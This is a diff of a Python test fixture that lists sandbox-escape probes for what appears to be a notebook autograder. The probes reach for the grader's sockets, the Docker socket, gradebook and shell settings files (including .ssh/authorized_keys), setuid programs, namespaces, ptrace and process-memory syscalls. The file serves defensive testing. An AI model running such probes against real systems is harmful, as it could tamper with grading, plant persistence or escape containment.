@@ -1,16 +1,12 @@
 """Getting out: connections, other files, other rights, other namespaces."""
 
-from tests.attack_fixtures.attack import Attack
+from tests.attack_fixtures.attack import shared
 
 __all__ = ["ATTACKS"]
 
 
-def _cell(name: str, tries: str, code: str, **more) -> Attack:
-    return Attack(name, tries, 'print("attack ran")\n' + code, **{"alone": False} | more)
-
-
 NETWORK = (
-    _cell(
+    shared(
         "TCP",
         "a connection to the grader's machine",
         """
@@ -21,17 +17,7 @@ tried('http', lambda: urllib.request.urlopen(f'http://127.0.0.1:{PLACES["tcp"]}/
 """,
         control=True,
     ),
-    _cell(
-        "UDP",
-        "a packet",
-        """
-import socket
-tried('UDP', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PLACES['udp'])))
-tried('multicast', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('ff02::1', 5353)))
-""",
-        control=True,
-    ),
-    _cell(
+    shared(
         "Unix sockets",
         "sockets of the machine, by path and abstract",
         """
@@ -41,7 +27,7 @@ for name in (PLACES['unix'], '\\0' + PLACES['abstract'], '/run/docker.sock', '/r
 """,
         control=True,
     ),
-    _cell(
+    shared(
         "a pair of sockets",
         "the only sockets that can be had, turned to another address",
         """
@@ -53,15 +39,7 @@ for name in (PLACES['unix'], '\\0' + PLACES['abstract']):
 a.close(); b.close()
 """,
     ),
-    _cell(
-        "names",
-        "a question for an address",
-        """
-import socket
-tried('DNS', lambda: socket.getaddrinfo('example.org', 80))
-""",
-    ),
-    _cell(
+    shared(
         "other families",
         "sockets of other kinds: raw, netlink, packets, Bluetooth, virtual machines",
         """
@@ -70,15 +48,7 @@ for family, kind in ((2, 3), (16, 3), (17, 3), (31, 5), (40, 1), (38, 5), (10, 1
     tried(str(family), lambda: socket.socket(family, kind))
 """,
     ),
-    _cell(
-        "io_uring",
-        "a connection by another door of the kernel",
-        """
-tried('io_uring', lambda: syscall('io_uring_setup', 8, ctypes.create_string_buffer(120)))
-tried('socket', lambda: syscall('socket', 2, 1, 0))
-""",
-    ),
-    _cell(
+    shared(
         "the tests' socket",
         "an open file sent along with an answer",
         """
@@ -91,16 +61,7 @@ tried('SCM_RIGHTS', lambda: line().sendmsg([], rights) or 1 / 0)
 os.close(file)
 """,
     ),
-    _cell(
-        "packages",
-        "a package fetched from the net",
-        """
-!pip install --quiet attack-mark 2>&1 | tail -1
-!git clone https://example.org/attack-mark 2>&1 | tail -1
-tried('pip', lambda: __import__('attack_mark'))
-""",
-    ),
-    _cell(
+    shared(
         "programs",
         "programs that connect",
         """
@@ -118,21 +79,18 @@ for command in (
 )
 
 WRITING = (
-    *(
-        _cell(
-            f"writing the {name}",
-            f"writing the {name}, which anybody may write",
-            f"""
-place = PLACES[{name!r}]
-tried("writing", lambda: open(place, "ab").write(b"attack-mark"))
-tried("removing", lambda: os.remove(place))
-tried("owner", lambda: os.chmod(place, 0o777))
+    shared(
+        "writing the gradebook",
+        "writing to files that anybody may write",
+        """
+for name in ("gradebook", "other", "master", "config"):
+    tried("writing", lambda: open(PLACES[name], "ab").write(b"attack-mark"))
+    tried("removing", lambda: os.remove(PLACES[name]))
+    tried("owner", lambda: os.chmod(PLACES[name], 0o777))
 """,
-            control=True,
-        )
-        for name in ("gradebook", "other", "master", "config")
+        control=True,
     ),
-    _cell(
+    shared(
         "new files",
         "files in every folder",
         """
@@ -145,7 +103,7 @@ for name in ('/', '/tmp/../', '/etc', '/usr/lib', '/home', '/dev', '/var/tmp', '
     tried(name, new_file)
 """,
     ),
-    _cell(
+    shared(
         "site-packages",
         "code that Python runs at every start",
         """
@@ -156,26 +114,7 @@ for name in (*site.getsitepackages(), sys.prefix + '/bin', *folders):
     tried(name, lambda: open(name + '/__init__.py', 'a').write('#'))
 """,
     ),
-    _cell(
-        "settings",
-        "settings that other programs read: of IPython, matplotlib, pip, git, the shell",
-        """
-for name in (
-    '.bashrc', '.gitconfig', '.ssh/authorized_keys', '.jupyter/nbgrader_config.py',
-    '.ipython/profile_default/startup/attack-mark.py', '.config/matplotlib/matplotlibrc',
-):
-    tried(name, lambda: open(os.path.join(PLACES['home'], name), 'a').write('attack-mark'))
-""",
-    ),
-    _cell(
-        "bytecode",
-        "Python's compiled files",
-        """
-import py_compile
-tried('pyc', lambda: py_compile.compile(torch.__file__, doraise=True))
-""",
-    ),
-    _cell(
+    shared(
         "read-only taken back",
         "the file system mounted anew, to be written",
         """
@@ -187,7 +126,7 @@ tried('fsopen', lambda: syscall('fsopen', b'tmpfs', 0))
 tried('proc', lambda: called('mount', b'proc', b'/home/student', b'proc', 0, None))
 """,
     ),
-    _cell(
+    shared(
         "locks",
         "locks on files that others need",
         """
@@ -196,18 +135,10 @@ for name in (PLACES['gradebook'], PLACES['config']):
     tried(name, lambda: fcntl.flock(open(name), fcntl.LOCK_EX))
 """,
     ),
-    _cell(
-        "a leading link",
-        "a link that the grader might follow",
-        """
-os.symlink(PLACES['gradebook'], 'attack-mark-followed')
-os.mkfifo('attack-mark-pipe')
-""",
-    ),
 )
 
 RIGHTS = (
-    _cell(
+    shared(
         "root",
         "another user",
         """
@@ -217,7 +148,7 @@ for number in (0, 65533, 1001):
 tried('groups', lambda: os.setgroups([0]))
 """,
     ),
-    _cell(
+    shared(
         "set-user-ID",
         "programs that run as root",
         """
@@ -231,7 +162,7 @@ print(done.stdout, done.stderr)
 print('broke out' if done.stdout.strip() == '0' else '')
 """,
     ),
-    _cell(
+    shared(
         "capabilities",
         "rights of root, one by one",
         """
@@ -244,7 +175,7 @@ tried('chown', lambda: os.chown('/home/student', 0, 0))
 tried('capset', lambda: called('capset', b'\\x22\\x05\\x08\\x20' + bytes(4), bytes([255] * 24)))
 """,
     ),
-    _cell(
+    shared(
         "devices",
         "devices of one's own",
         """
@@ -254,7 +185,7 @@ for device in (os.makedev(1, 1), os.makedev(1, 11), os.makedev(8, 0), os.makedev
     tried('mknod', lambda: os.mknod(f'attack-mark-device', 0o600 | stat.S_IFBLK, device))
 """,
     ),
-    _cell(
+    shared(
         "namespaces",
         "namespaces of one's own, in which one is root",
         """
@@ -266,21 +197,30 @@ done = subprocess.run(['unshare', '-Urmpf', 'id', '-u'], capture_output=True, te
 print(done.stderr, 'broke out' if done.stdout.strip() == '0' else '')
 """,
     ),
-    _cell(
+    shared(
         "kernel",
-        "the kernel's own doors",
+        "the kernel's own doors: to other processes' memory, to memory that no limit counts, past the filters",
         """
 for name, arguments in (
     ('bpf', (0, bytes(64), 64)), ('userfaultfd', (0,)), ('personality', (0x0040000,)), ('quotactl', (0, 0, 0, 0)),
     ('init_module', (b'x', 1, b'')), ('finit_module', (0, b'', 0)), ('delete_module', (b'x', 0)),
-    ('kexec_load', (0, 0, 0, 0)), ('io_uring_enter', (0, 0, 0, 0, 0, 0)), ('io_uring_register', (0, 0, 0, 0)),
+    ('kexec_load', (0, 0, 0, 0)), ('io_uring_setup', (8, ctypes.create_string_buffer(120))),
+    ('io_uring_enter', (0, 0, 0, 0, 0, 0)), ('io_uring_register', (0, 0, 0, 0)), ('socket', (2, 1, 0)),
     ('pivot_root', (b'.', b'.')), ('move_mount', (0, b'', 0, b'', 0)), ('mount_setattr', (0, b'', 0, 0, 0)),
-    ('setns', (0, 0)), ('kcmp', (1, 1, 0, 0, 0)),
+    ('setns', (os.pidfd_open(1), 0)), ('kcmp', (1, PLACES['pid'], 0, 0, 0)), ('keyctl', (0, -3, 1)),
+    ('add_key', (b'user', b'a', b'b', 1, -3)), ('request_key', (b'user', b'a', None, -3)),
+    ('ptrace', (16, PLACES['pid'], 0, 0)), ('ptrace', (16, 1, 0, 0)), ('pidfd_getfd', (os.pidfd_open(1), 0, 0)),
+    ('process_vm_readv', (PLACES['pid'], bytes(16), 1, bytes(16), 1, 0)),
+    ('process_vm_writev', (1, bytes(16), 1, bytes(16), 1, 0)), ('perf_event_open', (bytes(128), -1, 0, -1, 0)),
+    ('memfd_create', (b'a', 0)), ('shmget', (0, 100 << 20, 0o600)), ('msgget', (0, 0o600)),
+    ('semget', (0, 1, 0o600)),
 ):
     tried(name, lambda: syscall(name, *arguments))
+print('all doors tried')
 """,
+        shows="all doors tried",
     ),
-    _cell(
+    shared(
         "other numbers",
         "system calls by their other numbers",
         """
@@ -290,7 +230,7 @@ if platform.machine() == 'x86_64':
         tried(str(number), lambda: called('syscall', 0x40000000 + number, 0, 0, 0, 0, 0))
 """,
     ),
-    _cell(
+    shared(
         "filters",
         "a filter of one's own that allows everything",
         """
@@ -302,7 +242,7 @@ tried('unshare', lambda: called('unshare', 0x10000000))
 tried('new privileges', lambda: called('prctl', 38, 0, 0, 0, 0))
 """,
     ),
-    _cell(
+    shared(
         "a terminal",
         "characters typed into the grader's terminal",
         """
@@ -313,7 +253,7 @@ tried('tty', lambda: open('/dev/tty', 'w').write('x'))
 tried('pty', lambda: os.openpty())
 """,
     ),
-    _cell(
+    shared(
         "machine code",
         "code of its own making",
         """
